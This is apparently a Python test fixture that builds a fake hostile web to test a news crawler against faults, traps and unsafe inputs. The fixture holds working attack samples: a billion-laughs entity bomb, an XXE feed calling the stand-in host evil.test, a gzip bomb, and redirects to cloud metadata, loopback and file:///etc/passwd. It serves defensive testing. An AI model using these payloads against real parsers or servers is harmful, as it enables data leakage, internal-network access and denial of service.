"""A hostile fake web: one site per kind of fault, each crawled as its own source.

Every site lives under its own ``.test`` host, so the per-source stats of one crawl tell the
faults apart (``newscrawl/source/<site>/...``). Pages are generated, never stored on disk.
"""

from __future__ import annotations

import gzip
import os
import random
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

from fakeweb import FakeWeb, Reply

WORDS = str.split(
    "council budget schools roads hospitals region opposition members argued taxes families "
    "energy bills rent food prices winter storms floods railway lines officials promised "
    "repairs summer workers unions warned strikes minister parliament vote election campaign "
    "voters polls market shares investors bank rates inflation growth exports farmers harvest "
    "drought rivers police court judge trial witness evidence hospital doctors nurses patients "
    "school teachers pupils exams university students research scientists climate emissions "
    "coal wind solar grid village town city mayor residents protest street bridge tunnel port"
)

# seconds: slow and hanging pages fail fast (1.0 timed out a 404 on a loaded machine)
DOWNLOAD_TIMEOUT = 2.0
DOWNLOAD_MAXSIZE = 1_000_000
PAGE_BUDGET = 60
SLOW = 4.0  # seconds a slow page takes: well over DOWNLOAD_TIMEOUT

SERVER = "http://server.test"
CONTENT = "http://content.test"
FEEDS = "http://feeds.test"
OTHER = "http://other.test"
EVIL = "http://evil.test"
TRAPS = "http://traps.test"
BUDGET = "http://budget.test"
UNSAFE = "http://unsafe.test"

# Private targets the fake web answers, so a fetch would show in its hits.
PRIVATE_URLS = (
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://127.0.0.1:9/admin",
    "http://10.1.2.3/intranet",
    "http://localhost/server-status",
    "http://[::1]/",
    "http://2130706433/decimal-loopback",
)


def prose(seed: str, paragraphs: int = 3, words: int = 60) -> list[str]:
    """Distinct paragraphs for one page (no two pages near-duplicate each other)."""
    rng = random.Random(seed)
    return [" ".join(rng.choice(WORDS) for _ in range(words)).capitalize() + "."
            for _ in range(paragraphs)]  # fmt: skip


def article(title: str, seed: str | None = None, head: str = "", extra: str = "") -> str:
    """An article page: og:type article, a headline and distinct body text."""
    body = "".join(f"<p>{p}</p>" for p in prose(seed or title))
    return (
        f"<!doctype html><html><head>{head}<title>{title}</title>"
        f'<meta property="og:type" content="article"></head><body><article>'
        f"<h1>{title}</h1>{body}{extra}</article></body></html>"
    )


def hub(*hrefs: str) -> str:
    """A page that only links to ``hrefs``."""
    links = "".join(f'<li><a href="{h}">link {i}</a></li>' for i, h in enumerate(hrefs))
    return f"<!doctype html><html><body><ul>{links}</ul></body></html>"


def rss(*links: str) -> str:
    """An RSS 2.0 feed of ``links``."""
    items = "".join(f"<item><title>Item {i}</title><link>{u}</link></item>"
                    for i, u in enumerate(links))  # fmt: skip
    return f'<?xml version="1.0"?><rss version="2.0"><channel>{items}</channel></rss>'


def urlset(*locs: str) -> str:
    """A sitemap ``<urlset>`` of ``locs``."""
    urls = "".join(f"<url><loc>{u}</loc></url>" for u in locs)
    return f'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'


# --- server faults ----------------------------------------------------------------------------
def add_server_faults(web: FakeWeb) -> None:
    """500/503/404, slow and hanging pages, resets, truncated bodies, redirect chains, loops."""
    s = SERVER
    web.add(f"{s}/2026/01/e500", "down", status=500)
    web.add(f"{s}/2026/01/e503", "busy", status=503, headers={"Retry-After": "0"})
    web.add(f"{s}/2026/01/e404", "gone", status=404)
    web.add(f"{s}/2026/01/slow", article("Slow page"), delay=SLOW)
    web.add(f"{s}/2026/01/bit-slow", article("A page just in time"), delay=0.2)
    web.add(f"{s}/2026/01/hang", b"", fault="hang", delay=SLOW)
    web.add(f"{s}/2026/01/reset", b"", fault="reset")
    web.add(f"{s}/2026/01/cut", article("Cut short"), fault="truncate")
    web.redirect(f"{s}/2026/01/chain-1", f"{s}/2026/01/chain-2")
    web.redirect(f"{s}/2026/01/chain-2", f"{s}/2026/01/chain-3", status=302)
    web.redirect(f"{s}/2026/01/chain-3", f"{s}/2026/01/chain-end", status=307)
    web.add(f"{s}/2026/01/chain-end", article("End of a redirect chain"))
    web.redirect(f"{s}/2026/01/loop-a", f"{s}/2026/01/loop-b")
    web.redirect(f"{s}/2026/01/loop-b", f"{s}/2026/01/loop-a")
    # a seed is dont_filter, so only REDIRECT_MAX_TIMES stops this loop
    web.redirect(f"{s}/seed-loop", f"{s}/seed-loop")
    refresh = (
        f'<html><head><meta http-equiv="refresh" content="0;url={s}/seed-refresh"></head></html>'
    )
    web.add(f"{s}/seed-refresh", refresh)  # a meta-refresh loop on a seed, the same story
    web.add(f"{s}/2026/01/fine", article("A healthy article"))
    paths = ["e500", "e503", "e404", "slow", "bit-slow", "hang", "reset", "cut", "chain-1",
             "loop-a", "fine"]  # fmt: skip
    web.add(f"{s}/", hub(*(f"/2026/01/{p}" for p in paths)))


# --- content faults ---------------------------------------------------------------------------
CP1252_TITLE = "Café prices “soar” — €5 for a crème brûlée"
UNDECLARED_TITLE = "Déjà vu: naïve façades in Zürich"
TRUNCATED_TITLE = "Half a page still counts"
MALFORMED_TITLE = "Tag soup survives"


def add_content_faults(web: FakeWeb) -> None:
    """Too big, gzip bomb, wrong/missing charset, binary, PDF, truncated/malformed, empty, JS."""
    c = CONTENT
    web.add(f"{c}/2026/01/huge", article("Huge", extra="<p>" + "word " * 400_000 + "</p>"))
    bomb = gzip.compress(b"<html><body>" + b"A" * 50_000_000 + b"</body></html>", 9)
    web.add(f"{c}/2026/01/bomb", bomb, headers={"Content-Encoding": "gzip"})
    web.add(f"{c}/2026/01/cp1252", article(CP1252_TITLE).encode("cp1252"),
            content_type="text/html; charset=utf-8")  # fmt: skip
    web.add(f"{c}/2026/01/undeclared", article(UNDECLARED_TITLE).encode("cp1252"),
            content_type="text/html")  # fmt: skip
    web.add(f"{c}/2026/01/binary", random.Random(7).randbytes(30_000), content_type="text/html")
    web.add(f"{c}/2026/01/report.pdf", b"%PDF-1.7\n" + os.urandom(3000),
            content_type="application/pdf")  # fmt: skip
    web.add(f"{c}/2026/01/download", b"%PDF-1.7\n" + os.urandom(3000),
            content_type="application/pdf")  # fmt: skip
    page = article(TRUNCATED_TITLE)
    web.add(f"{c}/2026/01/truncated", page[: page.index("</p>", page.index("</p>") + 4) + 40])
    soup = (
        article(MALFORMED_TITLE).replace("</p>", "<b><i>", 2).replace("</article>", "</div></td>")
    )
    web.add(f"{c}/2026/01/malformed", "<<>><html><html>" + soup + "</span></html><!--")
    web.add(f"{c}/2026/01/empty", b"")
    web.add(f"{c}/2026/01/js-shell", '<!doctype html><html><head><script src="/app.js"></script>'
            '</head><body><div id="root"></div><noscript>Enable JavaScript</noscript></body></html>')  # fmt: skip
    paths = ["huge", "bomb", "cp1252", "undeclared", "binary", "report.pdf", "download",
             "truncated", "malformed", "empty", "js-shell"]  # fmt: skip
    web.add(f"{c}/", hub(*(f"/2026/01/{p}" for p in paths)))


# --- feed and sitemap faults ------------------------------------------------------------------
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + ']><rss version="2.0"><channel><item><title>&j;</title>'
    "<link>http://feeds.test/2026/01/laughs</link></item></channel></rss>"
)
EXTERNAL_ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "http://evil.test/xxe">'
    '<!ENTITY % dtd SYSTEM "http://evil.test/dtd"> %dtd;]>'
    '<rss version="2.0"><channel><item><title>&xxe;</title>'
    "<link>http://feeds.test/2026/01/xxe</link></item></channel></rss>"
)


def add_feed_faults(
    web: FakeWeb, other_domain_article: str = f"{OTHER}/2026/01/syndicated"
) -> None:
    """Invalid XML, entity bombs, external entities, gzipped sitemaps, off-site feed links."""
    f = FEEDS
    web.add(f"{f}/broken.xml", '<?xml version="1.0"?><rss><channel><item><link>',
            content_type="application/rss+xml")  # fmt: skip
    web.add(f"{f}/not-xml.xml", b"\x00\x01garbage" * 100, content_type="application/rss+xml")
    web.add(f"{f}/laughs.xml", BILLION_LAUGHS, content_type="application/rss+xml")
    web.add(f"{f}/xxe.xml", EXTERNAL_ENTITIES, content_type="application/rss+xml")
    web.add(f"{EVIL}/xxe", "SECRET FROM THE EXTERNAL ENTITY", content_type="text/plain")
    web.add(f"{EVIL}/dtd", '<!ENTITY leak SYSTEM "http://evil.test/leak">',
            content_type="application/xml-dtd")  # fmt: skip
    for name in ("laughs", "xxe", "gz-a", "gz-b", "plain", "before-cut", "after-cut"):
        web.add(f"{f}/2026/01/{name}", article(f"Feed article {name}"))
    gz_a = gzip.compress(urlset(f"{f}/2026/01/gz-a").encode())
    web.add(f"{f}/sitemap-a.xml.gz", gz_a, content_type="application/x-gzip")
    gz_b = gzip.compress(urlset(f"{f}/2026/01/gz-b").encode())
    web.add(f"{f}/sitemap-b.xml", gz_b, content_type="application/xml",
            headers={"Content-Encoding": "gzip"})  # fmt: skip
    index = '<?xml version="1.0"?><sitemapindex><sitemap><loc>{0}/sitemap-self.xml</loc></sitemap></sitemapindex>'
    web.add(f"{f}/sitemap-self.xml", index.format(f), content_type="application/xml")
    cut = urlset(f"{f}/2026/01/before-cut", f"{f}/2026/01/after-cut")
    web.add(
        f"{f}/sitemap-cut.xml", cut[: cut.index("after-cut") - 30], content_type="application/xml"
    )
    web.add(f"{f}/offsite.xml", rss(f"{f}/2026/01/plain", other_domain_article),
            content_type="application/rss+xml")  # fmt: skip
    web.add(other_domain_article, article("Syndicated elsewhere",
                                          extra=f'<a href="{OTHER}/2026/01/deeper">more</a>'))  # fmt: skip
    web.add(f"{OTHER}/2026/01/deeper", article("Never reached"))


# --- crawler traps ----------------------------------------------------------------------------
def trap_page(url: str) -> Reply | None:
    """Generated trap pages of traps.test: calendars, pagination, query and path explosions."""
    parts = urlsplit(url)
    path, query = parts.path, dict(parse_qsl(parts.query))
    if path.startswith("/calendar/"):
        year, month = (int(x) for x in path.split("/")[2:4])
        nxt = (year + (month == 12), month % 12 + 1)
        prev = (year - (month == 1), (month - 2) % 12 + 1)
        return Reply(hub(f"/calendar/{nxt[0]}/{nxt[1]:02d}", f"/calendar/{prev[0]}/{prev[1]:02d}",
                         f"/calendar/{year + 10}/{month:02d}").encode())  # fmt: skip
    if path == "/list":
        page = int(query.get("page", "1"))
        return Reply(hub(f"/list?page={page + 1}", f"/2026/02/listed-{page}").encode())
    if path == "/filter":  # faceted navigation: each click adds three more facets
        n = len(query)
        links = [parts.query + "".join(f"&f{n}{b}{k}=v" for k in range(3)) for b in "ab"]
        return Reply(hub(*(f"/filter?{q}" for q in links)).encode())
    if path.startswith("/wide/"):  # a wide tree: ten new pages per page, only a budget ends it
        n = int(path.rsplit("/", 1)[-1])
        return Reply(hub(*(f"/wide/{n * 10 + k}" for k in range(1, 11))).encode())
    if path.startswith("/loop/"):
        return Reply(hub("again/", "../2026/02/looped-story").encode())
    if path.startswith("/2026/02/"):
        return Reply(article(f"Story {path.rsplit('/', 1)[-1]}").encode())
    return None


SESSION_VARIANTS = (
    "/2026/02/session-story;jsessionid=A1B2C3D4E5F6A7B8C9",
    "/2026/02/session-story;jsessionid=ZZ99YY88XX77WW66",
    "/2026/02/session-story?PHPSESSID=5f4dcc3b5aa765d61d8327deb882cf99",
    "/2026/02/session-story?sid=9a0364b9e99bb480dd25e1f0284c8555",
    "/(S(lit3py55t21z5v55vlm25s55))/2026/02/session-story",
)


def add_traps(web: FakeWeb) -> None:
    """traps.test: every trap reachable from the start page."""
    web.handle(f"{TRAPS}/", trap_page)
    web.handle(f"{BUDGET}/", trap_page)
    web.add(f"{BUDGET}/", hub("/wide/0"))
    web.add(f"{TRAPS}/", hub("/calendar/2026/01", "/list?page=1", "/filter?f0=v",
                             "/loop/", *SESSION_VARIANTS))  # fmt: skip


# --- unsafe targets ---------------------------------------------------------------------------
def add_unsafe(web: FakeWeb) -> None:
    """unsafe.test: links, feed entries and redirects to private hosts and other schemes."""
    u = UNSAFE
    for url in PRIVATE_URLS:
        web.add(url, "INTERNAL: must never be fetched", content_type="text/plain")
    web.redirect(f"{u}/2026/03/to-metadata", PRIVATE_URLS[0])
    web.redirect(f"{u}/2026/03/to-loopback", PRIVATE_URLS[1], status=302)
    web.redirect(f"{u}/2026/03/to-file", "file:///etc/passwd")
    web.redirect(f"{u}/2026/03/to-gopher", "gopher://unsafe.test/1")
    web.add(f"{u}/2026/03/public", article("A public article"))
    web.add(f"{u}/", hub("/2026/03/to-metadata", "/2026/03/to-loopback", "/2026/03/to-file",
                         "/2026/03/to-gopher", "/2026/03/public", "ftp://unsafe.test/pub/file",
                         "file:///etc/passwd"))  # fmt: skip
    web.add(f"{u}/feed.xml", rss(*PRIVATE_URLS[2:]), content_type="application/rss+xml")
    web.add(f"{u}/robots.txt", "User-agent: *\nAllow: /\nSitemap: http://169.254.169.254/sitemap.xml\n",
            content_type="text/plain")  # fmt: skip
    web.add(
        "http://169.254.169.254/sitemap.xml",
        urlset(PRIVATE_URLS[0]),
        content_type="application/xml",
    )


SOURCES = f"""
[[source]]
name = "server"
start_urls = ["{SERVER}/", "{SERVER}/seed-loop", "{SERVER}/seed-refresh"]

[[source]]
name = "content"
start_urls = ["{CONTENT}/"]

[[source]]
name = "feeds"
feeds = ["{FEEDS}/broken.xml", "{FEEDS}/not-xml.xml", "{FEEDS}/laughs.xml", "{FEEDS}/xxe.xml",
         "{FEEDS}/offsite.xml"]
sitemaps = ["{FEEDS}/sitemap-a.xml.gz", "{FEEDS}/sitemap-b.xml", "{FEEDS}/sitemap-cut.xml",
            "{FEEDS}/sitemap-self.xml"]

[[source]]
name = "traps"
start_urls = ["{TRAPS}/"]
max_depth = 8

[[source]]
name = "budget"
start_urls = ["{BUDGET}/"]
max_depth = 8

[[source]]
name = "unsafe"
start_urls = ["{UNSAFE}/"]
feeds = ["{UNSAFE}/feed.xml"]
sitemaps = ["{UNSAFE}/robots.txt"]
"""


def build(web: FakeWeb) -> None:
    """Every hostile site on one fake web."""
    add_server_faults(web)
    add_content_faults(web)
    add_feed_faults(web)
    add_traps(web)
    add_unsafe(web)


def crawl_settings() -> list[str]:
    """``-s`` arguments: short timeouts, a small size limit and a page budget."""
    return ["-s", f"DOWNLOAD_TIMEOUT={DOWNLOAD_TIMEOUT}", "-s", f"DOWNLOAD_MAXSIZE={DOWNLOAD_MAXSIZE}",
            "-s", f"NEWSCRAWL_MAX_PAGES_PER_SOURCE={PAGE_BUDGET}", "-s", "DEPTH_LIMIT=8"]  # fmt: skip


def write_sources(workdir: Path, text: str = SOURCES) -> Path:
    """The sources file of the hostile crawl in ``workdir``."""
    path = workdir / "sources.toml"
    path.write_text(text, encoding="utf-8")
    return path
